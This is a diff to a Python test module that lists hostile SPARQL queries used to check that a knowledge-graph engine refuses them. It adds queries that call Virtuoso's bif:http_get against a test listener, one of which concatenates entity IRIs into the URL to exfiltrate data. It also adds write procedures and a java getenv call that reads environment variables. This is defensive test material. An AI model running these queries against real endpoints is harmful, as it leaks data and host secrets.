@@ -4,6 +4,8 @@ send to the store. Written against the mini test KG (tests/conftest.py: ~130 tri
 
 Each query has a kind that says what it attacks:
 - service: federation in every form, hoping the engine calls out (0 requests allowed);
+- function: an engine's own procedures called as functions (Virtuoso's `bif:http_get` fetches a
+  URL, `bif:sequence_next` writes) and functions outside the standard namespaces;
 - update / load / form: writes, LOAD, CONSTRUCT/DESCRIBE (refused; the KG stays unchanged);
 - trick: comment, escape and line-break tricks that two parsers may read differently;
 - bomb: time, memory or size bombs (a named error or a bounded result; the run survives);
@@ -16,7 +18,7 @@ from __future__ import annotations
 from dataclasses import dataclass
 from typing import Literal
 
-Kind = Literal["service", "update", "load", "form", "trick", "bomb", "size", "odd"]
+Kind = Literal["service", "function", "update", "load", "form", "trick", "bomb", "size", "odd"]
 
 P = "PREFIX ex: <http://example.org/mini/vocab/> PREFIX e: <http://example.org/mini/entities/>\n"
 
@@ -141,4 +143,16 @@ def hostile_queries(url: str) -> list[Hostile]:
         Hostile("odd-rand-uuid", "odd", "SELECT (RAND() AS ?r) (STRUUID() AS ?u) (NOW() AS ?t) WHERE {}"),
         Hostile("odd-quoted-triple", "odd", "SELECT ?t WHERE { BIND(<<( <http://x/a> <http://x/b> <http://x/c> )>> AS ?t) }"),
     ]
-    return service + tricks + writes + bombs + sizes + odd
+    functions = [
+        Hostile("bif-http-get", "function", f'SELECT (<bif:http_get>("{url}/bif") AS ?x) WHERE {{}}', True),
+        Hostile("bif-http-get-prefixed", "function", f'PREFIX bif: <bif:>\nSELECT (bif:http_get("{url}/bif2") AS ?x) WHERE {{}}', True),
+        Hostile("bif-http-get-exfiltrate", "function",
+                P + f'SELECT ?p WHERE {{ ?p a ex:Person FILTER(STRLEN(<bif:http_get>(CONCAT("{url}/x?", STR(?p)))) >= 0) }}', True),
+        Hostile("bif-http-get-renamed-prefix", "function", f'PREFIX b: <bif:>\nASK {{ BIND(b:http_get("{url}/bif3") AS ?x) }}', True),
+        Hostile("bif-sequence-next", "function", 'SELECT (<bif:sequence_next>("kgeval") AS ?n) WHERE {}', True),
+        Hostile("bif-as-predicate", "function", "SELECT ?o WHERE { ?s <bif:sys_stat> ?o }", True),
+        Hostile("sql-procedure", "function", "SELECT (<sql:kgeval_probe>(1) AS ?x) WHERE {}", True),
+        Hostile("java-function", "function", "SELECT (<java:java.lang.System.getenv>(\"HOME\") AS ?x) WHERE {}", True),
+        Hostile("function-at-listener", "function", f"SELECT ?o WHERE {{ ?s ?p ?o FILTER(<{url}/fn>(?o)) }}", True),
+    ]
+    return service + functions + tricks + writes + bombs + sizes + odd
